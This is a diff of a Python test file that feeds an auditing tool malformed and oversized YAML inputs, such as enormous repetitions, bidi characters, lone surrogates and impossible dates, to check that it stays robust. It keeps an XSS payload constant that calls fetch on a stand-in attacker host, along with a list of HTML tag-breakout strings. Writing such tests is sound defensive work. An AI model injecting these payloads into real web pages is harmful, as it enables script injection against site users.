@@ -9,6 +9,7 @@ from typing import Any
 
 from auditor.audit.document import Audit
 from tests.audit_samples import remarked, sample_audit
+from tests.registry.helpers import HEAD
 
 OWNED = "window.owned=1;alert(1);console.log(1);fetch('https://evil.example/')"
 OUT_OF = ("", "</script>", "</style>", "</title>", "</textarea></svg></math>", "<!-->", "]]>", '">', "'>")
@@ -81,11 +82,8 @@ NAMES = [
 ]  # fmt: skip
 """Ids of offices that would be files, folders, devices or worse."""
 
-HEAD = """timezone: Asia/Tomsk
-directive: {title: Т, issuer: И, issued: 2022-05-25, deadline: 2022-06-01, binds: municipal_head, source: С}
-"""
 OFFICE = "  - {{id: rayon-{n}, municipality: Район {n}, title: глава, group: municipal_head}}\n"
-_BODY = HEAD + "offices:\n" + OFFICE.format(n=1)
+_BODY = HEAD + OFFICE.format(n=1)
 
 
 _OWNER = OFFICE.replace("}}", ", accounts: [{{url: t.me/abcd, kind: institution}}]}}")
@@ -98,12 +96,12 @@ YAML: dict[str, str | bytes] = {
     "dashes in dashes": "- " * 450_000,
     "40,000 unknown keys": _BODY + "".join(f"key{n}: 1\n" for n in range(40_000)),
     "3,000 tenures at once": _BODY.replace("}\n", f", tenures: [{'{name: Имярек, since: 2001},' * 3_000}]}}\n"),
-    "4,000 owners of one page": HEAD + "offices:\n" + "".join(_OWNER.format(n=n) for n in range(4_000)),
+    "4,000 owners of one page": HEAD + "".join(_OWNER.format(n=n) for n in range(4_000)),
     "a quoted value without end": 'a: "' + "x y\n" * 220_000,
     "UTF-16": _BODY.encode("utf-16"),
     "a direction mark in a key": _BODY + "no\u202ete: x\n",
     "a number of 5,000 digits": "expects: {municipal_head: " + "9" * 5_000 + "}\n" + _BODY,
-    "half a character": _BODY.replace("title: Т", 'title: "\\ud800"'),
+    "half a character": _BODY.replace("title: П", 'title: "\\ud800"'),
     "a day without end": _BODY.replace("2022-06-01", "1e9999"),
     "a far year": _BODY.replace("2022-05-25", "99999-01-01"),
     "NUL in a zone": _BODY.replace("Asia/Tomsk", '"a\\0b"'),
